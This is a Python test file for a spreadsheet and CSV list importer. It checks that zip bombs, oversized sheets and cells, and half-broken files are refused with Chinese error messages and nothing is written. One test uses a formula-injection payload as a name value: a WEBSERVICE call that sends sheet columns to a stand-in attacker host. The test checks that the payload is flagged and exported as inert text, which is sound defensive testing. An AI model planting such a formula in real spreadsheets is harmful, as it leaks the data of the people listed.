"""Hostile and broken list files: every limit breached is a Chinese error naming the limit, every such file is
refused before anything is written, and a file broken half-way writes nothing and says where."""

from __future__ import annotations

import io

import pytest
from sqlalchemy import func, select

from jobs.access.permissions import SYSTEM, system_actor
from jobs.lists import NotAList, export_demand, import_demand, write_error_report
from jobs.lists.reading import ReadLimits, open_list
from jobs.storage.models import DemandList, Person
from tests.jobs.lists.bombs import (
    HEADER,
    broken_at,
    far_column_rows,
    many_shared_strings,
    shared_string_bomb,
    text_row,
    write_parts,
)
from tests.jobs.lists.gallery import TODAY, ZHANG, demand_rows, generated_people, write_csv, write_xlsx


def count(session, model) -> int:
    return session.scalar(select(func.count()).select_from(model))


def refused(path, **limits) -> str:
    with pytest.raises(NotAList) as caught, open_list(path, "demand", limits=ReadLimits(**limits)) as source:
        list(source.data_rows())
    return caught.value.message


# -- spreadsheet bombs ---------------------------------------------------------------------------------------

def test_a_part_that_unpacks_far_beyond_its_packed_size_is_refused_before_it_is_read(tmp_path):
    path = shared_string_bomb(tmp_path / "bomb.xlsx", 20 << 20)
    assert path.stat().st_size < 200_000
    message = refused(path)
    assert "压缩比超过上限200倍" in message and "xl/sharedStrings.xml" in message


def test_a_shared_string_table_over_its_size_limit_is_refused(tmp_path):
    path = shared_string_bomb(tmp_path / "bomb.xlsx", 3 << 20)
    assert "共享字符串表解压后有3.0 MB，超过上限2.0 MB" in refused(path, shared_strings_bytes=2 << 20,
                                                                  compression_ratio=10_000)


def test_too_many_shared_strings_are_refused_naming_the_limit(tmp_path):
    path = many_shared_strings(tmp_path / "strings.xlsx", 2_000)
    assert refused(path, shared_strings=1_000) == "无法读取“strings.xlsx”：共享字符串超过上限1,000个。"


def test_a_cell_at_column_xfd_is_refused_naming_the_column_limit_instead_of_making_a_row_of_16384(tmp_path):
    path = far_column_rows(tmp_path / "sparse.xlsx", 1_000)
    assert refused(path) == ("“sparse.xlsx”的工作表“清单”第2行有第16384列的单元格，超过列数上限256列，"
                             "未导入任何数据：请删除多余的列。")


def test_a_sparse_row_within_the_limit_is_only_as_wide_as_its_last_real_cell(tmp_path):
    path = write_parts(tmp_path / "sparse.xlsx", [text_row(1, HEADER),
                                                  '<row r="2"><c r="A2" t="inlineStr"><is><t>张三</t></is></c>'
                                                  '<c r="J2" t="inlineStr"><is><t>x</t></is></c></row>'])
    with open_list(path, "demand") as source:
        [row] = list(source.data_rows())
    assert len(row.cells) == 10 and row.cells[0] == "张三"


def test_a_sheet_over_the_row_limit_is_refused(tmp_path):
    path = write_xlsx(tmp_path / "long.xlsx", demand_rows(*generated_people(120)))
    assert refused(path, rows=100) == ("“long.xlsx”的工作表“Sheet”超过行数上限100行，未导入任何数据："
                                       "请拆分成几个文件再导入。")


def test_a_file_over_the_size_limit_is_refused_before_it_is_opened(tmp_path):
    path = write_xlsx(tmp_path / "big.xlsx", demand_rows(*generated_people(50)))
    assert "超过文件大小上限" in refused(path, file_bytes=1_000)


def test_a_cell_longer_than_excel_allows_is_cut_and_its_row_rejected_naming_the_limit(session, vault, tmp_path):
    people = generated_people(3)
    path = write_parts(tmp_path / "long_cell.xlsx", [
        text_row(1, HEADER), text_row(2, (people[0][0], people[0][1], "宁乡市", "脱贫人口")),
        text_row(3, ("张" * 40_000, people[1][1], "宁乡市", "脱贫人口")),
        text_row(4, (people[2][0], people[2][1], "宁乡市", "脱贫人口"))])
    result = import_demand(session, vault, path, default_name="x", today=TODAY, actor=SYSTEM)
    assert (result.created, result.rejected) == (2, 1)
    assert result.errors[0].as_dict() == {"row": 3, "column": "姓名", "value": "",
                                          "message": "单元格内容超过32,767个字符的上限，本行未导入：请精简后重新导入。"}


def test_a_list_can_be_read_from_a_stream_under_a_name_of_the_callers_choosing(session, vault, tmp_path):
    data = write_xlsx(tmp_path / "tmp1234.xlsx", demand_rows(("张三", ZHANG))).read_bytes()
    result = import_demand(session, vault, io.BytesIO(data), name="张家村名单.xlsx", list_name="张家村", today=TODAY, actor=SYSTEM)
    assert (result.created, result.list_name) == (1, "张家村")
    with pytest.raises(NotAList) as caught:
        import_demand(session, vault, io.BytesIO(b"PK\x03\x04broken"), name="上传.xlsx", list_name="x", today=TODAY, actor=SYSTEM)
    assert caught.value.message.startswith("无法读取“上传.xlsx”")


def test_a_list_without_a_name_anywhere_is_refused_rather_than_named_after_a_temporary_file(session, vault, tmp_path):
    data = write_xlsx(tmp_path / "tmpab12cd.xlsx", demand_rows(("张三", ZHANG))).read_bytes()
    with pytest.raises(Exception) as caught:
        import_demand(session, vault, io.BytesIO(data), today=TODAY, actor=SYSTEM)
    assert caught.value.message == "请给出清单名称：文件中没有清单名称或标题行。"
    assert count(session, Person) == 0


# -- partial imports ------------------------------------------------------------------------------------------

def test_an_xlsx_broken_at_row_2000_writes_nothing_and_says_where(session, vault, tmp_path):
    path = broken_at(tmp_path / "broken.xlsx", generated_people(3_000), 3_000, 2_000)
    with pytest.raises(NotAList) as caught:
        import_demand(session, vault, path, default_name="broken", batch_size=500, today=TODAY, actor=SYSTEM)
    assert "第2000行附近已损坏，未导入任何数据" in caught.value.message
    assert count(session, Person) == 0 and count(session, DemandList) == 0


def test_a_csv_field_over_the_readable_limit_writes_nothing_and_says_where(session, vault, tmp_path):
    rows = demand_rows(*generated_people(1_500))
    rows[1_200][1] = "张" * 70_000
    path = write_csv(tmp_path / "huge.csv", rows, encoding="utf-8")
    with pytest.raises(NotAList) as caught:
        import_demand(session, vault, path, default_name="huge", batch_size=500,
                      limits=ReadLimits(csv_field=65_536), today=TODAY, actor=SYSTEM)
    assert caught.value.message == "无法读取“huge.csv”：第1201行附近有一个单元格超过65,536个字符的上限，未导入任何数据。"
    assert count(session, Person) == 0


def test_a_csv_field_of_131073_characters_rejects_its_row_and_imports_the_rest(session, vault, tmp_path):
    rows = demand_rows(*generated_people(1_500))
    rows[1_200][4] = "宁" * 131_073
    path = write_csv(tmp_path / "wide.csv", rows, encoding="utf-8")
    result = import_demand(session, vault, path, default_name="wide", batch_size=500, today=TODAY, actor=SYSTEM)
    assert (result.created, result.rejected) == (1_499, 1)
    assert result.errors[0].row == 1_201 and "32,767个字符的上限" in result.errors[0].message


# -- formula injection, smaller findings -----------------------------------------------------------------

def test_a_name_that_looks_like_a_formula_is_flagged_and_exported_as_text(session, vault, tmp_path):
    hostile = '=WEBSERVICE("http://evil.example/?"&TEXTJOIN(",",1,C:D))'
    path = write_parts(tmp_path / "f.xlsx", [text_row(1, HEADER), text_row(2, (hostile, ZHANG, "宁乡市", "脱贫人口"))])
    result = import_demand(session, vault, path, list_name="清单", today=TODAY, actor=SYSTEM)
    assert result.created == 1
    [warning] = result.warnings
    assert (warning.row, warning.column) == (2, "姓名") and "公式注入" in warning.message
    exported = export_demand(session, vault, tmp_path / "out.xlsx", reveal=True, actor=system_actor("test"))
    from openpyxl import load_workbook

    sheet = load_workbook(exported.path).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == hostile)
    assert cell.data_type == "s"


def test_a_header_only_file_says_so(session, vault, tmp_path):
    result = import_demand(session, vault, write_xlsx(tmp_path / "empty.xlsx", [demand_rows()[0]]),
                           default_name="empty", today=TODAY, actor=SYSTEM)
    assert result.rows == 0
    assert "没有任何数据行" in result.warnings[0].message


def test_a_duplicated_header_column_is_named_instead_of_called_unrecognised(session, vault, tmp_path):
    rows = [["姓名", "身份证号", "户籍地", "人员类别", "身份证号码"], ["张三", ZHANG, "宁乡市", "脱贫人口", "x"]]
    result = import_demand(session, vault, write_xlsx(tmp_path / "dup.xlsx", rows), default_name="d", today=TODAY, actor=SYSTEM)
    assert result.ignored_columns == []
    assert result.warnings[0].message == "表头中有两列都是“身份证号”：只读取了第一列，“身份证号码”这一列已忽略，请删除重复的列。"


def test_the_error_report_masks_numbers_unless_revealed(session, vault, tmp_path):
    rows = demand_rows(("张三", ZHANG), ("张三", ZHANG))
    result = import_demand(session, vault, write_xlsx(tmp_path / "r.xlsx", rows), default_name="r", today=TODAY, actor=SYSTEM)
    from openpyxl import load_workbook

    masked = load_workbook(write_error_report(result, tmp_path / "masked.xlsx")).active
    assert [c.value for c in masked[3]][2] == "430182********4517"
    clear = load_workbook(write_error_report(result, tmp_path / "clear.xlsx", reveal=True)).active
    assert [c.value for c in clear[3]][2] == ZHANG
